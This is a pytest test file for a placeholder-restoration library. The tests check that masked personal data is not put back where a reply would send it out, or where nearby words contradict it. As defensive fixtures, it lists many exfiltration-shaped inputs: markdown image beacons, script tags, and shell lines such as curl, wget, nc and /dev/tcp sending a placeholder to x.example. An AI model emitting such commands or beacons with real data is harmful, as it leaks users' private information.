"""Places that would send a value away, and words that contradict it."""

from __future__ import annotations

import pytest
from promptgraph.placeholders import Placeholder, RestorationTable
from promptgraph.restoration import restore
from promptgraph.restoration.consistency import contradiction, kind_of

TABLE = RestorationTable(
    (
        Placeholder("[P1]", "Ngozi Adeyemi", "PERSON"),
        Placeholder("[P2]", "Tom Reyes", "PERSON"),
        Placeholder("[P3]", "+44 20 7946 0123", "PHONE"),
        Placeholder("[P4]", "ann.lowe@mail.example", "EMAIL"),
        Placeholder("[P5]", "GB82 WEST 1234 5698 7654 32", "IBAN"),
    )
)


@pytest.mark.parametrize(
    "reply",
    [
        "![](https://x.example/?q=[P1])", "![x](<https://x.example/a b [P1]>)", "![x](/pixel?[P1])", "![x]( [P1] )",
        "[click](https://x.example/?[P1])", "[a](b (c) [P1])", "[click]([P1])", "[![a](i?[P1])](x)",
        "[a]: https://x.example/[P1]",
        "https://x.example/[P1]", "<https://x.example/?[P1]>", "HTTPS://X.EXAMPLE/[P1]", "ftp://x/[P1]",
        "wss://x.example/[P1]",
        "https:\\/\\/x.example\\/[P1]", "https://x.example/a,'[P1]", "www.x.example/?q=[P1]", "x.example/[P1]",
        "10.0.0.1/[P1]",
        "//x.example/?[P1]", "[P1].x.example/a", "mailto:a@x.example?body=[P1]", "javascript:go('[P1]')",
        '<img src="https://x.example/[P1]">', "<img src=x alt=[P1]>", '<a href="[P1]">x</a>', '<img src="x\n\n[P1]">',
        "<img\nsrc='\n[P1]'>", "<form action=[P1]>", "<script>send('[P1]')</script>", "<style>a{b:url([P1])}</style>",
        '```html\n<img src="[P1]">\n```', "```\n![](https://x.example/[P1])\n```", "a{background:url([P1])}",
        "```bash\ncurl -d '[P1]' https://x.example\n```", "```sh\nN=[P1]\nwget --post-data \"$N\" x.example\n```",
        "```bash\necho [P1] | nc x.example 80\n```", "```bash\necho [P1] > /dev/tcp/x.example/80\n```",
        "```powershell\nInvoke-WebRequest -Body '[P1]' -Uri x\n```", "```\ncurl x.example -d [P1]\n```",
        "```console\n$ ssh x.example [P1]\n```", "```sh\ncat <<E | curl -d @- x.example\n[P1]\nE\n```",
        "curl -s x.example -d [P1]", "$ curl [P1]", "`curl -d [P1] x.example`", "Run: `echo [P1] | nc x 80`",
        "curl x.example \\\n  -d [P1]", "curl x.example \\\r\n  -d [P1]",
        "```terminal\n$ curl https://x.example -d '[P1]'\n```", "```shellsession\n$ nc x.example 80 [P1]\n```",
        "```bash-session\nann@host:~$ curl x.example -d '[P1]'\n```", "```tcsh\ncurl x.example -d [P1]\n```",
        "```dockerfile\nRUN curl https://x.example -d '[P1]'\n```",
        "```html\n<p>curl https://x.example -d [P1]</p>\n```",
        "```http\nPOST /x HTTP/1.1\nHost: x.example\n\nq=[P1]\n```", '```json\n{"run": "ssh x.example [P1]"}\n```',
        "```yaml\nrun: curl -d [P1] x.example\n```", '{"args": ["curl", "-d", "[P1]", "x.example"]}',
        "[r]: //[2001:db8::1]/?q=[P1]", "[r]: //localhost/[P1]", "> [r]:\n> //localhost/?[P1]", "[r]: </a b?[P1]>",
        "[r]: //xn--e1afmkfd.xn--p1ai/?q=[P1]", "[r]: https:\\\\x.example\\[P1]", "https:/x.example/[P1]",
        "www.пример.рф/?q=[P1]", "xn--e1afmkfd.xn--p1ai/[P1]", "[P1].x.example", "Visit [P1].x.example.",
        "```sql\nSELECT '<img src=[P1]>'\n```", '```csv\nsite,name\n"https://x.example/a,[P1]",x\n```',
        "site,name\nhttps://x.example/a,[P1]", "|a|\n|-|-|\n|https://x.example/a|[P1]|", "<<img src=//localhost/[P1]>",
        "```js\nshow(<img src=[P1]>)\n```", "```bash\n<a title=x\n  href='[P1]'>\n```",
    ],
)  # fmt: skip
def test_unsafe_places_are_not_restored(reply: str) -> None:
    restoration = restore(f"Hello.\n\n{reply}\n\nBye.", TABLE)
    assert "Ngozi" not in restoration.text
    assert [i.token for i in restoration.issues if i.kind == "unsafe"] == ["[P1]"]


@pytest.mark.parametrize(
    "reply",
    [
        "See https://x.example/ and ask [P1].", "[P1] (https://x.example/a)",
        "![photo of [P1]](https://x.example/a.png)",
        "[mail to [P1]](https://x.example/a)", '<a href="https://x.example/">[P1]</a>', "<b>[P1]</b>", "Mail <[P1]>",
        "a < b and [P1] > c", "[P1]([P2])", "[P1].", "[P1].pdf", "report_[P1].tar.gz", "[P1]...", "and/or [P1]",
        "Use curl to ask [P1].", "Ping [P1] today.", "- host [P1] on Friday", "Use a `<script>` tag, [P1]!",
        "```bash\ngit commit -m 'by [P1]'\n```", "```python\nhandlers[0]('[P1]')\n```", "Re: [P1], 10:30", "url [P1]",
        "Mail: `[P1]`", "C:\\Users\\[P1]", "x@mail.example [P1]", "2.5/3 [P1]", "e.g./i.e. [P1]",
        "[Name]: [P1]", "[P1]: //localhost/a", "Open report_[P1].tar.gz.", "Ask [P1].Then go.",
        "```bash\ncat > .env <<EOF\nDB_USER=[P1]\nEOF\n```",
        "```bash\nmysql <<SQL\nSELECT * WHERE n = '[P1]';\nSQL\n```",
        '```python\nif x <y and name == "[P1]":\n    pass\n```', "```sql\nSELECT 1 WHERE a <b AND name = '[P1]'\n```",
        "```csv\nsite,name\nhttps://x.example/a,[P1]\n```", "|site|name|\n|-|-|\n|https://x.example/a|[P1]|",
        "```python\nrun('curl')\nname = '[P1]'\n```", '{"site": "https://x.example",\n "name": "[P1]"}',
    ],
)  # fmt: skip
def test_ordinary_places_are_restored(reply: str) -> None:
    restoration = restore(f"Hello.\n\n{reply}\n\nBye.", TABLE)
    assert "Ngozi Adeyemi" in restoration.text
    assert not [i for i in restoration.issues if i.kind == "unsafe"]


@pytest.mark.parametrize(
    "reply",
    [
        "<details><summary>Run</summary>\n\n```bash\ncurl -d '[P1]' https://x.example\n```\n\n</details>",
        "<details>\n\n`curl -d [P1] x.example`\n\n</details>", "<div>\ncurl https://x.example -d [P1]\n</div>",
        "<answer>\ncurl https://x.example -d [P1]\n</answer>", "<html><pre>curl -d [P1] x.example</pre></html>",
        '{"tool": "shell", "command": "curl -d [P1] https://x.example"}', '{"a": 1}\n{"run": "curl -d [P1] x.example"}',
    ],
)  # fmt: skip
def test_commands_in_whole_documents_are_not_restored(reply: str) -> None:
    restoration = restore(reply, TABLE)
    assert restoration.text == reply
    assert [i.token for i in restoration.issues if i.kind == "unsafe"] == ["[P1]"]


@pytest.mark.parametrize("form", ["[ P1 ]", "\\[P1\\]", "&#91;P1&#93;", "[&nbsp;P1]", "［P1］"])
def test_definitions_with_bent_placeholders_are_not_restored(form: str) -> None:
    assert "Ngozi" not in restore(f"[r]: //localhost/?q={form}", TABLE).text


def test_many_targets_without_an_end_cost_little() -> None:
    reply = "[a](" * 3000 + "[P1] " * 3000
    assert "Ngozi" not in restore(reply, TABLE).text


@pytest.mark.parametrize(
    ("reply", "token"),
    [
        ("Please e-mail [P3] today", "[P3]"), ("e-mail: [P1]", "[P1]"), ("Dear [P5],", "[P5]"), ("Hi [P3]!", "[P3]"),
        ("**Dear** [P3]", "[P3]"), ("Phone: [P4]", "[P4]"), ("call her phone [P5]", "[P5]"), ("Tel.: [P1]", "[P1]"),
        ("IBAN: [P1]", "[P1]"), ("account number [P4]", "[P4]"),
        ("Full name: [P3]", "[P3]"), ('{"email": "[P3]"}', "[P3]"),
        ("Correo electrónico: [P3]", "[P3]"), ("Sehr geehrter Herr [P5]", "[P5]"), ("Estimada [P3]:", "[P3]"),
        ("DOB: [P4]", "[P4]"), ("My e-mail is [P1]", "[P1]"), ("Thanks; your work phone is [P1]", "[P1]"),
    ],
)  # fmt: skip
def test_contradicted_values_are_not_restored(reply: str, token: str) -> None:
    restoration = restore(reply, TABLE)
    assert restoration.text == reply
    assert [i.token for i in restoration.issues if i.kind == "inconsistent"] == [token]


@pytest.mark.parametrize(
    "reply",
    [
        "e-mail [P4]", "Please e-mail [P1] today", "Dear [P1],", "Dear [P4],", "phone [P3]", "Phone [P1] at [P3]",
        "IBAN [P5]",
        "Name: [P1]", "my name is [P2]", "the name [P3] is odd", '{"email": "[P4]", "name": "[P1]"}', "Tel. [P3]",
        "account number is [P5]", "email and [P3]", "the mail-phone [P4]", "High [P3]",
        "User name: [P4]", "user.name = [P4]", "Login name is [P4]", "Account name: [P3]",
        "The person handling your e-mail is [P1].", "The one who answers the phone is [P1].",
    ],
)  # fmt: skip
def test_fitting_values_are_restored(reply: str) -> None:
    restoration = restore(reply, TABLE)
    assert "[P" not in restoration.text


@pytest.mark.parametrize(
    ("cue", "value"),
    [
        ("Date of birth: ", "03. 09. 1990"), ("DOB: ", "03 09 1990"), ("Geburtsdatum: ", "3.9.1990"),
        ("Tel.: ", "20.12.34.56"), ("phone ", "20.12.34.56"), ("IP: ", "20.12.34.56"), ("Tel.: ", "03 09 1990"),
        ("I will e-mail ", "2031-03-09"), ("Your appointment by phone is ", "2031-03-09"),
    ],
)  # fmt: skip
def test_values_that_the_words_may_mean_are_no_contradiction(cue: str, value: str) -> None:
    assert contradiction(cue, value, "OTHER") is None


@pytest.mark.parametrize("value", ["a$&b$$c$'d", "hunter2", "x9!kL", "ngozi_a"])
@pytest.mark.parametrize("cue", ["password is ", "e-mail: ", "phone ", "Dear ", "IBAN: "])
def test_values_that_may_be_anything_are_left_alone(cue: str, value: str) -> None:
    assert contradiction(cue, value, "PERSON") is None


def test_plain_words_contradict_only_as_names() -> None:
    assert contradiction("IBAN: ", "blue heron", "SECRET") is None
    assert contradiction("IBAN: ", "blue heron", "PERSON") == "an account number"


def test_what_the_user_wrote_so_is_consistent() -> None:
    entries = (Placeholder("[P1]", "Ngozi", "PERSON"),)
    assert restore("Re: e-mail: [P1]!", RestorationTable(entries)).text == "Re: e-mail: [P1]!"
    own = RestorationTable(entries, prompts=("Re: e-mail: [P1], what is it?",))
    assert restore("Re: e-mail: [P1]!", own).text == "Re: e-mail: Ngozi!"


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("ann@mail.example", "email"), ("https://x.example", "url"), ("GB82WEST12345698765432", "iban"),
        ("10.0.0.1", "address"),
        ("2031-03-09", "date"), ("03/09/31", "date"), ("03. 09. 1990", "date"), ("03 09 1990", "number"),
        ("+44 20 7946 0123", "phone"), ("(030) 23125 114", "phone"),
        ("4539 8712 0044 5613", "number"), ("42", "number"), ("Ngozi Adeyemi", "words"),
        ("O’Neil-Smith", "words"), ("Ευανθία", "words"),
        ("Flat 3, Vale Road", "other"), ("a1", "other"),
    ],
)  # fmt: skip
def test_kinds(value: str, kind: str) -> None:
    assert kind_of(value) == kind
